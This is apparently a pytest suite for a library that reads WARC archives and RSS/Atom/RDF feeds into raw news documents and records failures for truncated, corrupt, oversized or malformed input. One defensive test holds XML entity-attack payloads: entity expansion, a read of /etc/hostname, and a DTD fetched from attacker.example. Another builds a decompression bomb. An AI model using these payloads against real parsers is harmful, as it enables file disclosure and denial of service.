"""WARC/WARC.gz and RSS/Atom readers: records and items become raw documents with their
provenance; damage, bombs and entity tricks become failures with their reason."""

from __future__ import annotations

import io

import pytest

from communique.ingest import read_inputs, read_path, read_stream
from communique.records import Failure, RawDocument
from reliability_corpus import _deflate_bomb, _warc_gzip_payload, rss, warc_bytes

PAGE = ("<html><head><title>Talks in Oslo</title></head><body><article><p>The foreign ministers of "
        "Norway and Sweden met in Oslo on Tuesday.</p></article></body></html>")


def _pages(n: int) -> list[tuple[str, bytes, str, int]]:
    return [(f"https://news.example/{i}", PAGE.replace("Oslo", f"Oslo {i}").encode(), "text/html; charset=utf-8", 200)
            for i in range(n)]


@pytest.mark.parametrize("gzipped", [True, False])
def test_warc_responses_become_documents_with_offsets_urls_and_record_ids(gzipped):
    data = warc_bytes(_pages(3), gzipped=gzipped)
    items = list(read_stream("crawl.warc.gz" if gzipped else "crawl.warc", data))
    assert [type(i) for i in items] == [RawDocument] * 3
    first = items[0]
    assert first.source.startswith("crawl.warc") and "#" in first.source
    assert first.url == "https://news.example/0" and "Oslo 0" in first.html
    assert first.input_id == "<urn:uuid:00000000-0000-4000-8000-000000000001>"
    assert first.published is None  # the page's own date, if any, wins in cleaning
    assert first.fallback_published == ("2024-05-01", "the HTTP Last-Modified date")
    offsets = [int(i.source.rsplit("#", 1)[1]) for i in items]
    assert offsets == sorted(offsets) and len(set(offsets)) == 3
    # The offsets are where the records start: each one reads alone from there.
    assert data[offsets[1]:offsets[1] + 2] == (b"\x1f\x8b" if gzipped else b"WA")
    # Reading again gives the same sources: re-ingest is idempotent.
    assert [i.source for i in read_stream("crawl.warc.gz" if gzipped else "crawl.warc", data)] == [i.source for i in items]


def test_warc_from_a_file_and_from_stdin(tmp_path):
    data = warc_bytes(_pages(2))
    (tmp_path / "c.warc.gz").write_bytes(data)
    from_file = list(read_path(tmp_path / "c.warc.gz"))
    from_stdin = list(read_inputs(["-"], stdin=io.BytesIO(data)))
    assert [i.url for i in from_file] == [i.url for i in from_stdin] == ["https://news.example/0", "https://news.example/1"]
    assert all(i.source.startswith("<stdin>#") for i in from_stdin)


def test_truncated_warc_gz_keeps_the_records_before_the_cut():
    data = warc_bytes(_pages(3))
    items = list(read_stream("t.warc.gz", data[:-100]))
    assert [type(i) for i in items] == [RawDocument, RawDocument, Failure]
    assert items[-1].reason == "truncated" and "short of its Content-Length" in items[-1].detail


def test_damage_in_the_middle_is_skipped_and_reading_resumes():
    data = bytearray(warc_bytes(_pages(4)))
    middle = len(data) // 2
    data[middle:middle + 64] = bytes(64)
    items = list(read_stream("d.warc.gz", bytes(data)))
    documents = [i for i in items if isinstance(i, RawDocument)]
    failures = [i for i in items if isinstance(i, Failure)]
    assert len(failures) == 1 and failures[0].reason == "corrupt"
    assert "reading goes on at the next record" in failures[0].detail
    assert len(documents) >= 3  # only the damaged record is lost
    assert documents[-1].url == "https://news.example/3"


def test_non_articles_and_payload_bombs_are_recorded():
    odd = warc_bytes([("https://x.example/i.png", b"\x89PNG", "image/png", 200),
                      ("https://x.example/gone", b"", "text/html", 404)])
    assert [(i.reason, i.detail.split(" ")[0]) for i in read_stream("o.warc.gz", odd)] == [
        ("not-an-article", "content"), ("not-an-article", "HTTP")]
    bomb = _deflate_bomb(64 * 1024 * 1024)
    (item,) = read_stream("b.warc.gz", _warc_gzip_payload(bomb))
    assert item.reason == "too-large"


def test_a_warc_without_responses_says_so():
    data = warc_bytes(_pages(1))
    request_only = data[: int(read_stream_offset(data))]
    (item,) = read_stream("r.warc.gz", request_only)
    assert item.reason == "no-text" and "no response records" in item.detail


def read_stream_offset(data: bytes) -> str:
    (doc,) = read_stream("x.warc.gz", data)
    return doc.source.rsplit("#", 1)[1]


def test_rss_items_become_documents_with_title_link_date_and_outlet():
    feed = rss([("Talks in Oslo", "<p>The ministers met in Oslo.</p>", "https://f.example/1"),
                ("Only a link", None, "https://f.example/2")])
    first, second = read_stream("news.rss", feed.encode())
    assert first == RawDocument(source="news.rss#item-1", html="<p>The ministers met in Oslo.</p>",
                                input_id="https://f.example/1", url="https://f.example/1",
                                title="Talks in Oslo", published="2024-04-02", outlet="Nordic Wire")
    assert isinstance(second, Failure) and second.reason == "no-text"
    assert second.detail.startswith("feed item has no text") and "https://f.example/2" in second.detail


def test_atom_entries_with_xhtml_and_plain_summaries():
    atom = ('<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Wire</title>'
            '<entry><title>One</title><id>urn:1</id><link rel="alternate" href="https://a.example/1"/>'
            '<published>2024-02-03T10:00:00+09:00</published><content type="xhtml">'
            '<div xmlns="http://www.w3.org/1999/xhtml"><p>The envoys met in Seoul.</p></div></content></entry>'
            '<entry><title>Two</title><id>urn:2</id><summary>A plain summary of the talks.</summary></entry>'
            "</feed>")
    one, two = read_stream("wire.xml", atom.encode(), suffix=".xml")
    assert one.html is not None and "The envoys met in Seoul." in one.html and "xmlns" not in one.html
    assert (one.title, one.url, one.input_id, one.published, one.outlet) == (
        "One", "https://a.example/1", "urn:1", "2024-02-03T10:00:00+09:00", "Wire")
    assert two.text == "A plain summary of the talks." and two.html is None


def test_rss_1_rdf_items():
    rdf = ('<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
           'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
           "<channel><title>Old Wire</title></channel>"
           '<item rdf:about="https://r.example/1"><title>T</title><link>https://r.example/1</link>'
           "<description>Ministers met in Bonn.</description><dc:date>2003-06-01</dc:date></item></rdf:RDF>")
    (item,) = read_stream("old.rdf", rdf.encode())
    assert (item.text, item.url, item.published, item.outlet) == (
        "Ministers met in Bonn.", "https://r.example/1", "2003-06-01", "Old Wire")


@pytest.mark.parametrize(
    "doctype",
    ['<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
     '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
     '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'],
)
def test_entity_tricks_are_refused_and_nothing_is_expanded(doctype):
    feed = f'<?xml version="1.0"?>{doctype}<rss><channel><item><description>&b;</description></item></channel></rss>'
    (item,) = read_stream("bad.rss", feed.encode())
    assert item.reason == "unsafe-xml" and "DOCTYPE" in item.detail


def test_a_broken_feed_keeps_the_items_before_the_break():
    feed = rss([("A", "<p>First story text here.</p>", "https://f.example/a"),
                ("B", "<p>Second story text here.</p>", "https://f.example/b")])
    cut = feed[: feed.rindex("<item>") + 20]
    first, broken = read_stream("cut.rss", cut.encode())
    assert first.title == "A" and broken.reason == "malformed" and broken.source == "cut.rss#item-2"
